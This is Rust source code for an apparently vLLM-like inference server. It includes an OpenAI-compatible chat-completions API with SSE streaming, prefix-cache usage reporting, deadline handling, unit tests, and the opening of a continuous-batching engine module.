                                &generation,
                                sink,
                                &id,
                                &model,
                                &coalesced_ctr,
                                &cancelled_ctr,
                            )
                        }
                    })
                } else {
                    match generation.collect() {
                        Ok((text, usage)) => {
                            let message = Json::obj()
                                .set("role", "assistant")
                                .set("content", text);
                            let choice = Json::obj()
                                .set("index", 0u64)
                                .set("message", message)
                                .set("finish_reason", usage.finish_reason);
                            let resp = Json::obj()
                                .set("id", id.as_str())
                                .set("object", "chat.completion")
                                .set("model", model.as_str())
                                .set("choices", vec![choice])
                                .set("usage", usage_json(&usage));
                            Reply::full(Response::json(200, &resp))
                        }
                        Err(e) => Reply::full(Response::json(
                            503,
                            &Json::obj().set("error", e.to_string()),
                        )),
                    }
                }
            }
            _ => Reply::full(Response::json(404, &Json::obj().set("error", "not found"))),
        }
    })
}

/// OpenAI `usage` block, extended with the prefix-cache hit count so every
/// layer above (interface, gateway logs, clients) can see what the cache
/// saved (DESIGN.md §Prefix cache).
fn usage_json(usage: &Usage) -> Json {
    Json::obj()
        .set("prompt_tokens", usage.prompt_tokens)
        .set("completion_tokens", usage.completion_tokens)
        .set("cached_tokens", usage.cached_tokens)
        .set("total_tokens", usage.prompt_tokens + usage.completion_tokens)
}

/// Engine-channel → SSE pump. One blocking `recv` per wake-up, then every
/// token already queued behind it is drained and framed into a SINGLE
/// chunked write (one flush through all seven layers) — per-token writes
/// were the streaming hot path. `coalesced_ctr` counts the writes saved.
fn pump_generation(
    generation: &Generation,
    sink: &mut dyn StreamSink,
    id: &str,
    model: &str,
    coalesced_ctr: &Counter,
    cancelled_ctr: &Counter,
) -> Result<()> {
    loop {
        let first = match generation.rx.recv() {
            Ok(ev) => ev,
            Err(_) => return Ok(()),
        };
        let mut batch: Vec<String> = Vec::new();
        let mut terminal: Option<GenEvent> = None;
        match first {
            GenEvent::Token(t) => {
                batch.push(stream_chunk(id, model, Some(&t), None, None).dump())
            }
            other => terminal = Some(other),
        }
        while terminal.is_none() {
            match generation.rx.try_recv() {
                Ok(GenEvent::Token(t)) => {
                    batch.push(stream_chunk(id, model, Some(&t), None, None).dump())
                }
                Ok(other) => terminal = Some(other),
                Err(_) => break,
            }
        }
        if !batch.is_empty() {
            if batch.len() > 1 {
                coalesced_ctr.add(batch.len() as u64 - 1);
            }
            let refs: Vec<&str> = batch.iter().map(|s| s.as_str()).collect();
            if sink.send_event_batch(&refs).is_err() {
                // Client disconnected mid-stream. Returning drops
                // `generation`, which the engine sees as a failed send and
                // aborts within one decode step, freeing the batch slot.
                cancelled_ctr.inc();
                return Ok(());
            }
        }
        match terminal {
            Some(GenEvent::Done(usage)) => {
                let chunk =
                    stream_chunk(id, model, None, Some(usage.finish_reason), Some(&usage));
                sink.send_event(&chunk.dump())?;
                sink.send_event("[DONE]")?;
                return Ok(());
            }
            Some(GenEvent::Error(e)) => {
                sink.send_event(&Json::obj().set("error", e.as_str()).dump())?;
                return Ok(());
            }
            _ => {}
        }
    }
}

/// Per-request SSE chunk template (the zero-copy streaming path): `id`,
/// `model`, and the whole delta envelope are constant across a stream, so
/// the hot path splices the escaped token between a pre-dumped prefix and
/// suffix instead of building and dumping a `Json` value per token.
/// Byte-identical to framing `stream_chunk(..).dump()` (pinned by
/// `chunk_template_matches_full_dump`).
struct ChunkTemplate {
    /// `data: {...,"content":` — up to (not including) the token's quote.
    prefix: String,
    /// Everything after the token's closing quote, plus the SSE `\n\n`.
    suffix: String,
}

impl ChunkTemplate {
    fn new(id: &str, model: &str) -> ChunkTemplate {
        // A raw control char cannot survive `dump` unescaped (and `id` /
        // `model` never contain one), so the dumped sentinel locates the
        // token slot unambiguously.
        const SENTINEL: &str = "\u{1}tok\u{1}";
        let dumped = stream_chunk(id, model, Some(SENTINEL), None, None).dump();
        let needle = Json::Str(SENTINEL.to_string()).dump();
        let pos = dumped.find(&needle).expect("sentinel token present in template");
        ChunkTemplate {
            prefix: format!("data: {}", &dumped[..pos]),
            suffix: format!("{}\n\n", &dumped[pos + needle.len()..]),
        }
    }

    /// Append one framed SSE event carrying `token`.
    fn render_sse_into(&self, token: &str, out: &mut String) {
        out.push_str(&self.prefix);
        escape_str_into(token, out);
        out.push_str(&self.suffix);
    }
}

/// [`pump_generation`] with the per-token JSON build/dump replaced by
/// [`ChunkTemplate`] splicing into ONE reused buffer per wake-up
/// (`EngineConfig::zero_copy_sse`). Emits byte-identical SSE.
fn pump_generation_zero_copy(
    generation: &Generation,
    sink: &mut dyn StreamSink,
    id: &str,
    model: &str,
    coalesced_ctr: &Counter,
    cancelled_ctr: &Counter,
) -> Result<()> {
    let template = ChunkTemplate::new(id, model);
    let mut payload = String::new();
    loop {
        let first = match generation.rx.recv() {
            Ok(ev) => ev,
            Err(_) => return Ok(()),
        };
        payload.clear();
        let mut frames = 0usize;
        let mut terminal: Option<GenEvent> = None;
        match first {
            GenEvent::Token(t) => {
                template.render_sse_into(&t, &mut payload);
                frames += 1;
            }
            other => terminal = Some(other),
        }
        while terminal.is_none() {
            match generation.rx.try_recv() {
                Ok(GenEvent::Token(t)) => {
                    template.render_sse_into(&t, &mut payload);
                    frames += 1;
                }
                Ok(other) => terminal = Some(other),
                Err(_) => break,
            }
        }
        if frames > 0 {
            if frames > 1 {
                coalesced_ctr.add(frames as u64 - 1);
            }
            // Pre-framed SSE: one send, no per-event re-framing.
            if sink.send(payload.as_bytes()).is_err() {
                cancelled_ctr.inc();
                return Ok(());
            }
        }
        match terminal {
            Some(GenEvent::Done(usage)) => {
                let chunk =
                    stream_chunk(id, model, None, Some(usage.finish_reason), Some(&usage));
                sink.send_event(&chunk.dump())?;
                sink.send_event("[DONE]")?;
                return Ok(());
            }
            Some(GenEvent::Error(e)) => {
                sink.send_event(&Json::obj().set("error", e.as_str()).dump())?;
                return Ok(());
            }
            _ => {}
        }
    }
}

fn stream_chunk(
    id: &str,
    model: &str,
    content: Option<&str>,
    finish: Option<&str>,
    usage: Option<&Usage>,
) -> Json {
    let mut delta = Json::obj();
    if let Some(c) = content {
        delta = delta.set("content", c);
    }
    let choice = Json::obj().set("index", 0u64).set("delta", delta).set(
        "finish_reason",
        match finish {
            Some(f) => Json::Str(f.to_string()),
            None => Json::Null,
        },
    );
    let mut out = Json::obj()
        .set("id", id)
        .set("object", "chat.completion.chunk")
        .set("model", model)
        .set("choices", vec![choice]);
    if let Some(u) = usage {
        // OpenAI sends usage on the final chunk (stream_options-style).
        out = out.set("usage", usage_json(u));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::llmserver::backend::SimBackend;
    use crate::llmserver::engine::EngineConfig;
    use crate::util::http::{self, SseParser};
    use crate::util::metrics::Registry;
    use std::time::Duration;

    fn server() -> LlmHttpServer {
        let engine = Engine::start(
            Box::new(SimBackend::by_name("intel-neural-7b", 0.0).unwrap()),
            EngineConfig::default(),
            Registry::new(),
        );
        LlmHttpServer::start(engine).unwrap()
    }

    fn chat_body(stream: bool) -> Json {
        let msg = Json::obj().set("role", "user").set("content", "count from 1 to 10");
        Json::obj()
            .set("model", "intel-neural-7b")
            .set("messages", vec![msg])
            .set("stream", stream)
    }

    #[test]
    fn health_and_models() {
        let s = server();
        let h = http::get(&format!("{}/health", s.url())).unwrap();
        assert_eq!(h.status, 200);
        assert_eq!(h.json_body().unwrap().str_or("status", ""), "ok");
        let m = http::get(&format!("{}/v1/models", s.url())).unwrap();
        let body = m.json_body().unwrap();
        assert_eq!(
            body.at(&["data", "0", "id"]).unwrap().as_str().unwrap(),
            "intel-neural-7b"
        );
    }

    #[test]
    fn non_streaming_completion() {
        let s = server();
        let r = http::post_json(
            &format!("{}/v1/chat/completions", s.url()),
            &chat_body(false),
        )
        .unwrap();
        assert_eq!(r.status, 200);
        let body = r.json_body().unwrap();
        assert_eq!(
            body.at(&["choices", "0", "message", "content"]).unwrap().as_str().unwrap(),
            "1 2 3 4 5 6 7 8 9 10"
        );
        assert!(body.at(&["usage", "completion_tokens"]).unwrap().as_u64().unwrap() > 10);
    }

    #[test]
    fn streaming_completion_sse() {
        let s = server();
        let mut parser = SseParser::default();
        let mut events = Vec::new();
        let status = http::request_stream(
            "POST",
            &format!("{}/v1/chat/completions", s.url()),
            &[("content-type", "application/json")],
            chat_body(true).dump().as_bytes(),
            |chunk| events.extend(parser.push(chunk)),
        )
        .unwrap();
        assert_eq!(status, 200);
        assert_eq!(events.last().map(|s| s.as_str()), Some("[DONE]"));
        let text: String = events
            .iter()
            .filter_map(|e| Json::parse(e).ok())
            .filter_map(|j| {
                j.at(&["choices", "0", "delta", "content"])
                    .and_then(|c| c.as_str().map(String::from))
            })
            .collect();
        assert_eq!(text, "1 2 3 4 5 6 7 8 9 10");
    }

    #[test]
    fn second_identical_request_reports_cached_tokens() {
        let s = server();
        let url = format!("{}/v1/chat/completions", s.url());
        let r1 = http::post_json(&url, &chat_body(false)).unwrap();
        assert_eq!(
            r1.json_body().unwrap().at(&["usage", "cached_tokens"]).unwrap().as_u64(),
            Some(0),
            "cold cache"
        );
        let r2 = http::post_json(&url, &chat_body(false)).unwrap();
        let body = r2.json_body().unwrap();
        assert_eq!(
            body.at(&["choices", "0", "message", "content"]).unwrap().as_str().unwrap(),
            "1 2 3 4 5 6 7 8 9 10",
            "cache hit must not change the completion"
        );
        let cached = body.at(&["usage", "cached_tokens"]).unwrap().as_u64().unwrap();
        let prompt = body.at(&["usage", "prompt_tokens"]).unwrap().as_u64().unwrap();
        assert!(cached > 0 && cached < prompt, "cached {cached} of {prompt}");
    }

    /// Records each raw chunk the producer pushes.
    struct RecordingSink(Vec<Vec<u8>>);

    impl crate::util::http::StreamSink for RecordingSink {
        fn send(&mut self, chunk: &[u8]) -> anyhow::Result<()> {
            self.0.push(chunk.to_vec());
            Ok(())
        }
    }

    #[test]
    fn pump_drains_queued_tokens_into_one_write() {
        use crate::llmserver::engine::{GenEvent, Generation, Usage};
        use std::sync::mpsc::channel;
        let (tx, rx) = channel();
        for t in ["a", "b", "c", "d", "e"] {
            tx.send(GenEvent::Token(t.into())).unwrap();
        }
        tx.send(GenEvent::Done(Usage { finish_reason: "stop", ..Default::default() }))
            .unwrap();
        let generation = Generation { rx };
        let mut sink = RecordingSink(Vec::new());
        let metrics = Registry::new();
        let coalesced = metrics.counter("llm_sse_frames_coalesced_total", &[]);
        let cancelled = metrics.counter("llm_stream_cancelled_total", &[]);
        super::pump_generation(&generation, &mut sink, "id", "m", &coalesced, &cancelled)
            .unwrap();
        // All five queued tokens rode one write; then the finish chunk and
        // [DONE] (the writes an uncoalesced pump would have made 7 of).
        assert_eq!(sink.0.len(), 3, "writes: {:?}", sink.0.len());
        assert_eq!(coalesced.get(), 4, "five frames, one write → four saved");
        assert_eq!(cancelled.get(), 0);
        // Nothing was lost or reordered.
        let mut parser = SseParser::default();
        let events: Vec<String> = sink.0.iter().flat_map(|c| parser.push(c)).collect();
        let text: String = events
            .iter()
            .filter_map(|e| Json::parse(e).ok())
            .filter_map(|j| {
                j.at(&["choices", "0", "delta", "content"])
                    .and_then(|c| c.as_str().map(String::from))
            })
            .collect();
        assert_eq!(text, "abcde");
        assert_eq!(events.last().map(|s| s.as_str()), Some("[DONE]"));
        // The final chunk carries the usage block for upstream accounting.
        let finish = Json::parse(&events[events.len() - 2]).unwrap();
        assert_eq!(
            finish.at(&["choices", "0", "finish_reason"]).unwrap().as_str(),
            Some("stop")
        );
        assert!(finish.at(&["usage", "cached_tokens"]).is_some());
    }

    #[test]
    fn chunk_template_matches_full_dump() {
        let template = ChunkTemplate::new("chatcmpl-9", "mixtral-8x7b");
        for token in ["plain", " 7", "quote\" nl\n tab\t \\back", "ünïcode 😀", ""] {
            let mut got = String::new();
            template.render_sse_into(token, &mut got);
            let want = format!(
                "data: {}\n\n",
                stream_chunk("chatcmpl-9", "mixtral-8x7b", Some(token), None, None).dump()
            );
            assert_eq!(got, want, "token {token:?}");
        }
    }

    #[test]
    fn zero_copy_pump_is_byte_identical() {
        use crate::llmserver::engine::{GenEvent, Generation, Usage};
        use std::sync::mpsc::channel;
        let run = |zero_copy: bool| -> Vec<Vec<u8>> {
            let (tx, rx) = channel();
            for t in ["a", "b\"c", " \n ", "😀"] {
                tx.send(GenEvent::Token(t.into())).unwrap();
            }
            tx.send(GenEvent::Done(Usage { finish_reason: "stop", ..Default::default() }))
                .unwrap();
            let generation = Generation { rx };
            let mut sink = RecordingSink(Vec::new());
            let metrics = Registry::new();
            let coalesced = metrics.counter("c", &[]);
            let cancelled = metrics.counter("x", &[]);
            if zero_copy {
                super::pump_generation_zero_copy(
                    &generation, &mut sink, "id", "m", &coalesced, &cancelled,
                )
                .unwrap();
            } else {
                super::pump_generation(
                    &generation, &mut sink, "id", "m", &coalesced, &cancelled,
                )
                .unwrap();
            }
            sink.0
        };
        let classic = run(false);
        let zero_copy = run(true);
        assert_eq!(classic, zero_copy, "same writes, same bytes");
    }

    #[test]
    fn rejects_bad_requests() {
        let s = server();
        let r = http::request(
            "POST",
            &format!("{}/v1/chat/completions", s.url()),
            &[],
            b"{not json",
        )
        .unwrap();
        assert_eq!(r.status, 400);
        let r = http::post_json(
            &format!("{}/v1/chat/completions", s.url()),
            &Json::obj().set("messages", Vec::<Json>::new()),
        )
        .unwrap();
        assert_eq!(r.status, 400);
        let r = http::get(&format!("{}/nope", s.url())).unwrap();
        assert_eq!(r.status, 404);
    }

    #[test]
    fn prompt_template_includes_system() {
        let msgs = vec![
            Json::obj().set("role", "system").set("content", "be terse"),
            Json::obj().set("role", "user").set("content", "hi"),
        ];
        let p = render_prompt(&msgs);
        assert_eq!(p, "system: be terse\nuser: hi\nassistant:");
    }

    /// A slow real-paced server whose metrics registry the test holds on to.
    fn slow_server() -> (LlmHttpServer, Registry) {
        let metrics = Registry::new();
        let engine = Engine::start(
            // ~41 ms per decode step, ~0.9 s per full sentence: wide margins
            // for observing mid-stream effects.
            Box::new(SimBackend::by_name("mixtral-8x7b", 1.0).unwrap()),
            EngineConfig::default(),
            metrics.clone(),
        );
        (LlmHttpServer::start(engine).unwrap(), metrics)
    }

    #[test]
    fn deadline_ms_bounds_a_completion() {
        let (s, _metrics) = slow_server();
        let body = chat_body(false).set("deadline_ms", 150u64).set("max_tokens", 64u64);
        let t = std::time::Instant::now();
        let r = http::post_json(&format!("{}/v1/chat/completions", s.url()), &body).unwrap();
        assert_eq!(r.status, 200);
        let j = r.json_body().unwrap();
        assert_eq!(
            j.at(&["choices", "0", "finish_reason"]).unwrap().as_str().unwrap(),
            "deadline"
        );
        // Full sentence takes ~0.9 s; the deadline cut it well short.
        assert!(t.elapsed() < Duration::from_millis(700), "{:?}", t.elapsed());
        let done = j.at(&["usage", "completion_tokens"]).unwrap().as_u64().unwrap();
        assert!(done < 21, "generated the whole sentence anyway: {done}");
    }

    #[test]
    fn client_disconnect_mid_stream_cancels_generation() {
        let (s, metrics) = slow_server();
        let mut parser = SseParser::default();
        let mut events = 0usize;
        let (status, aborted) = http::request_stream_ctl(
            "POST",
            &format!("{}/v1/chat/completions", s.url()),
            &[("content-type", "application/json")],
            chat_body(true).dump().as_bytes(),
            |chunk| {
                events += parser.push(chunk).len();
                events < 2 // hang up after the second event
            },
        )
        .unwrap();
        assert_eq!(status, 200);
        assert!(aborted);
        // The api layer notices the dead socket and drops the Generation;
        // the engine reaps the slot with finish_reason "cancelled".
        for needle in [
            "llm_stream_cancelled_total{model=\"mixtral-8x7b\"} 1",
            "llm_cancelled_total{model=\"mixtral-8x7b\"} 1",
        ] {
            assert!(
                metrics.wait_for_metric(needle, Duration::from_secs(5)),
                "disconnect never propagated ({needle}): {}",
                metrics.render()
            );
        }
    }
}
