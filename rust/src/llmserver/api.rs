//! OpenAI-compatible HTTP API over the engine (vLLM's `api_server`).
//!
//! Implements the subset of the API the Chat AI stack uses: streaming and
//! non-streaming `/v1/chat/completions`, `/v1/models`, and the `/health`
//! probe the paper's scheduler script polls before marking an instance
//! ready in the routing table (§5.6).

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Result;

use super::engine::{Engine, GenEvent, GenRequest};
use crate::util::http::{Handler, Reply, Request, Response, Server};
use crate::util::json::Json;

static COMPLETION_ID: AtomicU64 = AtomicU64::new(1);

/// The HTTP face of one LLM server instance.
pub struct LlmHttpServer {
    pub server: Server,
    pub model: String,
}

impl LlmHttpServer {
    /// Serve `engine` on an ephemeral port.
    pub fn start(engine: Engine) -> Result<LlmHttpServer> {
        Self::start_on("127.0.0.1:0", engine)
    }

    /// Serve on an explicit `host:port` (the scheduler picks random ports
    /// for service jobs, §5.6).
    pub fn start_on(bind: &str, engine: Engine) -> Result<LlmHttpServer> {
        let model = engine.model.clone();
        let handler = make_handler(engine);
        let server = Server::start_on(bind, handler)?;
        Ok(LlmHttpServer { server, model })
    }

    pub fn url(&self) -> String {
        self.server.url()
    }
}

/// Flatten chat messages into the model prompt (the paper's §6.4 "custom
/// system prompts" feature rides on the same template).
pub fn render_prompt(messages: &[Json]) -> String {
    let mut out = String::new();
    for m in messages {
        let role = m.str_or("role", "user");
        let content = m.str_or("content", "");
        out.push_str(role);
        out.push_str(": ");
        out.push_str(content);
        out.push('\n');
    }
    out.push_str("assistant:");
    out
}

fn parse_gen_request(body: &Json) -> GenRequest {
    let prompt = match body.get("messages").and_then(|m| m.as_arr()) {
        Some(msgs) if !msgs.is_empty() => render_prompt(msgs),
        _ => body.str_or("prompt", "").to_string(),
    };
    // `deadline_ms` is a relative budget re-anchored at every hop that
    // parses it (gRPC-style deadline propagation): the body travels
    // verbatim through gateway → proxy → SSH → interface, so the engine is
    // the single enforcement point and no hop needs clock sync.
    let deadline = match body.u64_or("deadline_ms", 0) {
        0 => None,
        ms => Some(Instant::now() + Duration::from_millis(ms)),
    };
    GenRequest {
        prompt,
        max_tokens: body.u64_or("max_tokens", 64) as usize,
        temperature: body.f64_or("temperature", 0.0),
        top_k: body.u64_or("top_k", 0) as usize,
        seed: body.u64_or("seed", 0),
        deadline,
    }
}

fn make_handler(engine: Engine) -> Handler {
    let engine = Arc::new(engine);
    Arc::new(move |req: &Request| -> Reply {
        match (req.method.as_str(), req.path.as_str()) {
            ("GET", "/health") => Reply::full(Response::json(
                200,
                &Json::obj().set("status", "ok").set("model", engine.model.as_str()),
            )),
            ("GET", "/v1/models") => {
                let entry = Json::obj()
                    .set("id", engine.model.as_str())
                    .set("object", "model")
                    .set("owned_by", "chat-hpc");
                Reply::full(Response::json(
                    200,
                    &Json::obj().set("object", "list").set("data", vec![entry]),
                ))
            }
            ("GET", "/metrics") => {
                Reply::full(Response::text(200, &engine.metrics().render()))
            }
            ("POST", "/v1/chat/completions") | ("POST", "/v1/completions") => {
                let body = match Json::parse(req.body_str()) {
                    Ok(b) => b,
                    Err(e) => {
                        return Reply::full(Response::json(
                            400,
                            &Json::obj().set("error", format!("invalid json: {e}")),
                        ))
                    }
                };
                let gen_req = parse_gen_request(&body);
                if gen_req.prompt.is_empty() {
                    return Reply::full(Response::json(
                        400,
                        &Json::obj().set("error", "empty prompt"),
                    ));
                }
                let stream = body.bool_or("stream", false);
                let id = format!(
                    "chatcmpl-{}",
                    COMPLETION_ID.fetch_add(1, Ordering::Relaxed)
                );
                let model = engine.model.clone();
                let generation = engine.submit(gen_req);

                if stream {
                    let cancelled_ctr = engine
                        .metrics()
                        .counter("llm_stream_cancelled_total", &[("model", &model)]);
                    Reply::sse(move |sink| {
                        loop {
                            match generation.rx.recv() {
                                Ok(GenEvent::Token(text)) => {
                                    let chunk = stream_chunk(&id, &model, Some(&text), None);
                                    if sink.send_event(&chunk.dump()).is_err() {
                                        // Client disconnected mid-stream.
                                        // Returning drops `generation`,
                                        // which the engine sees as a failed
                                        // send and aborts within one decode
                                        // step, freeing the batch slot.
                                        cancelled_ctr.inc();
                                        return Ok(());
                                    }
                                }
                                Ok(GenEvent::Done(usage)) => {
                                    let chunk = stream_chunk(
                                        &id,
                                        &model,
                                        None,
                                        Some(usage.finish_reason),
                                    );
                                    sink.send_event(&chunk.dump())?;
                                    sink.send_event("[DONE]")?;
                                    return Ok(());
                                }
                                Ok(GenEvent::Error(e)) => {
                                    sink.send_event(
                                        &Json::obj().set("error", e.as_str()).dump(),
                                    )?;
                                    return Ok(());
                                }
                                Err(_) => return Ok(()),
                            }
                        }
                    })
                } else {
                    match generation.collect() {
                        Ok((text, usage)) => {
                            let message = Json::obj()
                                .set("role", "assistant")
                                .set("content", text);
                            let choice = Json::obj()
                                .set("index", 0u64)
                                .set("message", message)
                                .set("finish_reason", usage.finish_reason);
                            let resp = Json::obj()
                                .set("id", id.as_str())
                                .set("object", "chat.completion")
                                .set("model", model.as_str())
                                .set("choices", vec![choice])
                                .set(
                                    "usage",
                                    Json::obj()
                                        .set("prompt_tokens", usage.prompt_tokens)
                                        .set("completion_tokens", usage.completion_tokens)
                                        .set(
                                            "total_tokens",
                                            usage.prompt_tokens + usage.completion_tokens,
                                        ),
                                );
                            Reply::full(Response::json(200, &resp))
                        }
                        Err(e) => Reply::full(Response::json(
                            503,
                            &Json::obj().set("error", e.to_string()),
                        )),
                    }
                }
            }
            _ => Reply::full(Response::json(404, &Json::obj().set("error", "not found"))),
        }
    })
}

fn stream_chunk(id: &str, model: &str, content: Option<&str>, finish: Option<&str>) -> Json {
    let mut delta = Json::obj();
    if let Some(c) = content {
        delta = delta.set("content", c);
    }
    let choice = Json::obj().set("index", 0u64).set("delta", delta).set(
        "finish_reason",
        match finish {
            Some(f) => Json::Str(f.to_string()),
            None => Json::Null,
        },
    );
    Json::obj()
        .set("id", id)
        .set("object", "chat.completion.chunk")
        .set("model", model)
        .set("choices", vec![choice])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::llmserver::backend::SimBackend;
    use crate::llmserver::engine::EngineConfig;
    use crate::util::http::{self, SseParser};
    use crate::util::metrics::Registry;

    fn server() -> LlmHttpServer {
        let engine = Engine::start(
            Box::new(SimBackend::by_name("intel-neural-7b", 0.0).unwrap()),
            EngineConfig::default(),
            Registry::new(),
        );
        LlmHttpServer::start(engine).unwrap()
    }

    fn chat_body(stream: bool) -> Json {
        let msg = Json::obj().set("role", "user").set("content", "count from 1 to 10");
        Json::obj()
            .set("model", "intel-neural-7b")
            .set("messages", vec![msg])
            .set("stream", stream)
    }

    #[test]
    fn health_and_models() {
        let s = server();
        let h = http::get(&format!("{}/health", s.url())).unwrap();
        assert_eq!(h.status, 200);
        assert_eq!(h.json_body().unwrap().str_or("status", ""), "ok");
        let m = http::get(&format!("{}/v1/models", s.url())).unwrap();
        let body = m.json_body().unwrap();
        assert_eq!(
            body.at(&["data", "0", "id"]).unwrap().as_str().unwrap(),
            "intel-neural-7b"
        );
    }

    #[test]
    fn non_streaming_completion() {
        let s = server();
        let r = http::post_json(
            &format!("{}/v1/chat/completions", s.url()),
            &chat_body(false),
        )
        .unwrap();
        assert_eq!(r.status, 200);
        let body = r.json_body().unwrap();
        assert_eq!(
            body.at(&["choices", "0", "message", "content"]).unwrap().as_str().unwrap(),
            "1 2 3 4 5 6 7 8 9 10"
        );
        assert!(body.at(&["usage", "completion_tokens"]).unwrap().as_u64().unwrap() > 10);
    }

    #[test]
    fn streaming_completion_sse() {
        let s = server();
        let mut parser = SseParser::default();
        let mut events = Vec::new();
        let status = http::request_stream(
            "POST",
            &format!("{}/v1/chat/completions", s.url()),
            &[("content-type", "application/json")],
            chat_body(true).dump().as_bytes(),
            |chunk| events.extend(parser.push(chunk)),
        )
        .unwrap();
        assert_eq!(status, 200);
        assert_eq!(events.last().map(|s| s.as_str()), Some("[DONE]"));
        let text: String = events
            .iter()
            .filter_map(|e| Json::parse(e).ok())
            .filter_map(|j| {
                j.at(&["choices", "0", "delta", "content"])
                    .and_then(|c| c.as_str().map(String::from))
            })
            .collect();
        assert_eq!(text, "1 2 3 4 5 6 7 8 9 10");
    }

    #[test]
    fn rejects_bad_requests() {
        let s = server();
        let r = http::request(
            "POST",
            &format!("{}/v1/chat/completions", s.url()),
            &[],
            b"{not json",
        )
        .unwrap();
        assert_eq!(r.status, 400);
        let r = http::post_json(
            &format!("{}/v1/chat/completions", s.url()),
            &Json::obj().set("messages", Vec::<Json>::new()),
        )
        .unwrap();
        assert_eq!(r.status, 400);
        let r = http::get(&format!("{}/nope", s.url())).unwrap();
        assert_eq!(r.status, 404);
    }

    #[test]
    fn prompt_template_includes_system() {
        let msgs = vec![
            Json::obj().set("role", "system").set("content", "be terse"),
            Json::obj().set("role", "user").set("content", "hi"),
        ];
        let p = render_prompt(&msgs);
        assert_eq!(p, "system: be terse\nuser: hi\nassistant:");
    }

    /// A slow real-paced server whose metrics registry the test holds on to.
    fn slow_server() -> (LlmHttpServer, Registry) {
        let metrics = Registry::new();
        let engine = Engine::start(
            // ~41 ms per decode step, ~0.9 s per full sentence: wide margins
            // for observing mid-stream effects.
            Box::new(SimBackend::by_name("mixtral-8x7b", 1.0).unwrap()),
            EngineConfig::default(),
            metrics.clone(),
        );
        (LlmHttpServer::start(engine).unwrap(), metrics)
    }

    #[test]
    fn deadline_ms_bounds_a_completion() {
        let (s, _metrics) = slow_server();
        let body = chat_body(false).set("deadline_ms", 150u64).set("max_tokens", 64u64);
        let t = std::time::Instant::now();
        let r = http::post_json(&format!("{}/v1/chat/completions", s.url()), &body).unwrap();
        assert_eq!(r.status, 200);
        let j = r.json_body().unwrap();
        assert_eq!(
            j.at(&["choices", "0", "finish_reason"]).unwrap().as_str().unwrap(),
            "deadline"
        );
        // Full sentence takes ~0.9 s; the deadline cut it well short.
        assert!(t.elapsed() < Duration::from_millis(700), "{:?}", t.elapsed());
        let done = j.at(&["usage", "completion_tokens"]).unwrap().as_u64().unwrap();
        assert!(done < 21, "generated the whole sentence anyway: {done}");
    }

    #[test]
    fn client_disconnect_mid_stream_cancels_generation() {
        let (s, metrics) = slow_server();
        let mut parser = SseParser::default();
        let mut events = 0usize;
        let (status, aborted) = http::request_stream_ctl(
            "POST",
            &format!("{}/v1/chat/completions", s.url()),
            &[("content-type", "application/json")],
            chat_body(true).dump().as_bytes(),
            |chunk| {
                events += parser.push(chunk).len();
                events < 2 // hang up after the second event
            },
        )
        .unwrap();
        assert_eq!(status, 200);
        assert!(aborted);
        // The api layer notices the dead socket and drops the Generation;
        // the engine reaps the slot with finish_reason "cancelled".
        for needle in [
            "llm_stream_cancelled_total{model=\"mixtral-8x7b\"} 1",
            "llm_cancelled_total{model=\"mixtral-8x7b\"} 1",
        ] {
            assert!(
                metrics.wait_for_metric(needle, Duration::from_secs(5)),
                "disconnect never propagated ({needle}): {}",
                metrics.render()
            );
        }
    }
}
