//! vLLM-like LLM inference server (§5.7 of the paper).
//!
//! The paper serves models with vLLM; this module rebuilds the pieces of
//! vLLM the evaluation touches, sized to this testbed:
//!
//! - [`kvcache`] — the paged KV-cache block allocator (PagedAttention's
//!   memory manager) with vLLM-style prefix caching: ref-counted,
//!   content-hashed pages, block-aligned prefix attach, copy-on-write
//!   forks, LRU eviction under pressure (DESIGN.md §Prefix cache).
//! - [`engine`] — continuous batching: waiting requests are admitted into
//!   free batch slots between decode steps; every step serves every active
//!   sequence. Prompts prefill only their uncached suffix, in bounded
//!   chunks interleaved with decode steps (`EngineConfig.prefill_chunk`).
//! - [`backend`] — the compute: [`backend::PjrtBackend`] executes the real
//!   AOT-compiled JAX/Pallas model (the `tiny` artifact) through PJRT;
//!   [`backend::SimBackend`] is a timing model calibrated to Table 2's
//!   throughput rows for the paper's production models (7B/8x7B/72B — no
//!   open checkpoints offline, and no H100s).
//! - [`tokenizer`] — byte-level tokenizer matching the Python model's vocab.
//! - [`sampler`] — greedy / temperature / top-k sampling.
//! - [`api`] — the OpenAI-compatible HTTP surface (`/v1/chat/completions`
//!   with SSE streaming, `/v1/models`, `/health`) that makes the server a
//!   drop-in target for the gateway, exactly vLLM's role in Figure 1.

pub mod api;
pub mod backend;
pub mod engine;
pub mod kvcache;
pub mod sampler;
pub mod tokenizer;

pub use api::LlmHttpServer;
pub use backend::{Backend, PjrtBackend, SimBackend, SimProfile};
pub use engine::{Engine, EngineConfig, EngineCore, GenEvent, GenRequest, Generation, Usage};
