//! Continuous-batching inference engine (vLLM's core serving loop).
//!
//! One engine thread owns the backend and runs the loop:
//!
//! 1. drain newly-submitted requests into the waiting queue;
//! 2. **admit**: move waiting requests into free batch slots if the paged
//!    KV allocator can hold their prompt — the allocator attaches the
//!    longest prefix-cached portion of the prompt by reference, so only the
//!    uncached suffix needs compute;
//! 3. **prefill step**: every admitted-but-incomplete slot prefills up to
//!    `EngineConfig.prefill_chunk` tokens of its uncached suffix — one
//!    batched call — so a 4k-token prompt no longer stalls every running
//!    generation for a full prefill;
//! 4. **decode step**: one `decode` call advances every active slot;
//!    sampled tokens stream to each request's channel immediately.
//!
//! Requests therefore join and leave the running batch at token
//! granularity — no head-of-line blocking behind long generations *or*
//! long prompts, which is exactly the property the paper buys by deploying
//! vLLM (§2, §5.7), extended with vLLM's prefix caching and chunked
//! prefill (DESIGN.md §Prefix cache).
//!
//! The loop body lives in [`EngineCore`], which reads time exclusively from
//! an injected [`Clock`]: [`Engine::start`] wraps it in a thread on the wall
//! clock (the serving default), while the virtual-time harness
//! (`stack::sim`, DESIGN.md §Virtual time) steps the same core inline under
//! a `SimClock` — identical logic, simulated hours per CPU second.

use std::collections::VecDeque;
use std::sync::mpsc::{channel, Receiver, Sender, TryRecvError};
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;

use super::backend::{Backend, BatchGeometry};
use super::kvcache::{BlockAllocator, CacheStats, SeqBlocks};
use super::sampler::{sample, SamplingParams};
use super::tokenizer::{self, StreamDecoder};
use crate::util::clock::{Clock, WallClock};
use crate::util::metrics::{Counter, Gauge, Histogram, Registry};
